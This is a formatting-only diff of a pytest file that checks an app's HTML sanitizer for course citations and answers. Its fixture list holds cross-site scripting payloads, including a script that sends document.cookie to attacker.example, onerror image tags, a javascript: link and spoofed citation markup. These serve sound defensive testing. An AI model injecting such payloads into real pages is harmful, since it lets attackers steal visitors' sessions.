@@ -34,7 +34,10 @@ HOSTILE = [
     ("raw img", "<img src=x onerror=alert(1)>"),
     ("script", "<script>fetch('https://attacker.example/'+document.cookie)</script>"),
     ("iframe", "<iframe src=https://attacker.example></iframe>"),
-    ("details card", '<details class="cr-cite cr-cite-course"><summary>[1] syllabus.md course material</summary>fake</details>'),
+    (
+        "details card",
+        '<details class="cr-cite cr-cite-course"><summary>[1] syllabus.md course material</summary>fake</details>',
+    ),
     ("fake sources block", '<div class="cr-sources"><a href="https://attacker.example">syllabus.md</a></div>'),
     ("off-site link", "[the syllabus](https://attacker.example/syllabus)"),
     ("javascript link", "[click](javascript:alert(1))"),
@@ -46,13 +49,62 @@ HOSTILE = [
     ("blank line inside code", "```\nline one\n\n![](https://attacker.example/after-blank.png)\n```"),
 ]
 ALLOWED_TAGS = {
-    "div", "span", "p", "br", "hr", "strong", "em", "b", "i", "u", "s", "del", "sup", "sub", "code", "pre", "kbd",
-    "ul", "ol", "li", "blockquote", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
-    "a", "details", "summary", "button", "mark", "progress",
+    "div",
+    "span",
+    "p",
+    "br",
+    "hr",
+    "strong",
+    "em",
+    "b",
+    "i",
+    "u",
+    "s",
+    "del",
+    "sup",
+    "sub",
+    "code",
+    "pre",
+    "kbd",
+    "ul",
+    "ol",
+    "li",
+    "blockquote",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "a",
+    "details",
+    "summary",
+    "button",
+    "mark",
+    "progress",
 }
 ALLOWED_ATTRIBUTES = {
-    "class", "href", "title", "target", "rel", "start", "align",
-    "hidden", "aria-label", "type", "data-name", "value", "max", "scope", "colspan",  # the app's own markup
+    "class",
+    "href",
+    "title",
+    "target",
+    "rel",
+    "start",
+    "align",
+    "hidden",
+    "aria-label",
+    "type",
+    "data-name",
+    "value",
+    "max",
+    "scope",
+    "colspan",  # the app's own markup
 }
 
 
@@ -101,18 +153,25 @@ def test_hostile_text_is_inert_in_every_block_of_the_page(name, text):
     cite = {"n": 1, "source": text, "locator": text, "origin": "upload", "course_id": None, "text": text}
     cards = render_citations([cite], "en", DOCS)
     assert_inert(cards, own_details=True)
-    assert [tag for tag, _ in markup(cards)].count("details") == 0  # one cited card, no "also consulted", none from the text
-    assert [c for tag, a in markup(cards) if tag == "div" for c in [a.get("class", "")] if c.startswith("cr-cite ")] == ["cr-cite cr-cite-upload"]
+    assert [tag for tag, _ in markup(cards)].count(
+        "details"
+    ) == 0  # one cited card, no "also consulted", none from the text
+    assert [
+        c for tag, a in markup(cards) if tag == "div" for c in [a.get("class", "")] if c.startswith("cr-cite ")
+    ] == ["cr-cite cr-cite-upload"]
 
 
-@pytest.mark.parametrize("markdown, expected", [
-    ("**bold** and *em*", "<strong>bold</strong> and <em>em</em>"),
-    ("a `x<y` b", "<code>x&lt;y</code>"),
-    ("- one [1]\n- two [2]", "<li>one [1]</li>"),
-    ("| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>"),
-    ("```\nif (i<n) {}\n```", "<pre><code>if (i&lt;n) {}"),
-    ("根据资料：\n- 迟交 48 小时记 0 分 [1]", "<li>迟交 48 小时记 0 分 [1]</li>"),
-])
+@pytest.mark.parametrize(
+    "markdown, expected",
+    [
+        ("**bold** and *em*", "<strong>bold</strong> and <em>em</em>"),
+        ("a `x<y` b", "<code>x&lt;y</code>"),
+        ("- one [1]\n- two [2]", "<li>one [1]</li>"),
+        ("| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>"),
+        ("```\nif (i<n) {}\n```", "<pre><code>if (i&lt;n) {}"),
+        ("根据资料：\n- 迟交 48 小时记 0 分 [1]", "<li>迟交 48 小时记 0 分 [1]</li>"),
+    ],
+)
 def test_ordinary_answers_keep_their_formatting(markdown, expected):
     assert expected in markdown_html(markdown)
 
@@ -125,24 +184,57 @@ def test_the_question_is_shown_as_text():
 
 
 def test_only_links_to_cited_course_files_survive():
-    html_block = render_citations([
-        {"n": 1, "source": "syllabus.md", "locator": "Late policy", "origin": "course", "course_id": "csc3100", "text": "t"},
-    ], "en", DOCS)
+    html_block = render_citations(
+        [
+            {
+                "n": 1,
+                "source": "syllabus.md",
+                "locator": "Late policy",
+                "origin": "course",
+                "course_id": "csc3100",
+                "text": "t",
+            },
+        ],
+        "en",
+        DOCS,
+    )
     (href,) = re.findall(r'href="([^"]+)"', html_block)
     assert href == "course-file/csc3100/syllabus.md?heading=Late%20policy"
     assert clean_html(f'<a href="{href}">x</a>', links=[href]).count("href=") == 1
-    assert "href" not in render_citations([
-        {"n": 1, "source": "../../README.md", "locator": "", "origin": "course", "course_id": "csc3100", "text": "t"},
-    ], "en", DOCS)  # outside the course folder: no link
+    assert "href" not in render_citations(
+        [
+            {
+                "n": 1,
+                "source": "../../README.md",
+                "locator": "",
+                "origin": "course",
+                "course_id": "csc3100",
+                "text": "t",
+            },
+        ],
+        "en",
+        DOCS,
+    )  # outside the course folder: no link
     assert "href" not in clean_html(f'<a href="{href}">x</a>')  # not named by the caller: no link
     assert "href" not in clean_html('<a href="https://attacker.example">x</a>', links=["gradio_api/file=x"])
 
 
 def test_citation_links_name_no_server_path():
     """Low: citation links carried the absolute path of the course file on the server."""
-    html_block = render_citations([
-        {"n": 1, "source": "lectures/week03_hashing.pdf", "locator": "page 4", "origin": "course", "course_id": "csc3100", "text": "t"},
-    ], "en", DOCS)
+    html_block = render_citations(
+        [
+            {
+                "n": 1,
+                "source": "lectures/week03_hashing.pdf",
+                "locator": "page 4",
+                "origin": "course",
+                "course_id": "csc3100",
+                "text": "t",
+            },
+        ],
+        "en",
+        DOCS,
+    )
     assert str(PROJECT_ROOT) not in html_block and "/work/" not in html_block
     assert 'href="course-file/csc3100/lectures/week03_hashing.pdf#page=4"' in html_block
 
@@ -150,6 +242,6 @@ def test_citation_links_name_no_server_path():
 def test_every_block_render_returns_is_sanitized():
     from courserag.retrieval.session_pool import UploadedFile
 
-    notes = render_notes([UploadedFile('<img src=x onerror=alert(1)>.md', "h", "md", 1, 1, 10)], "en")
+    notes = render_notes([UploadedFile("<img src=x onerror=alert(1)>.md", "h", "md", 1, 1, 10)], "en")
     assert_inert(notes)
     assert "&lt;img" in notes
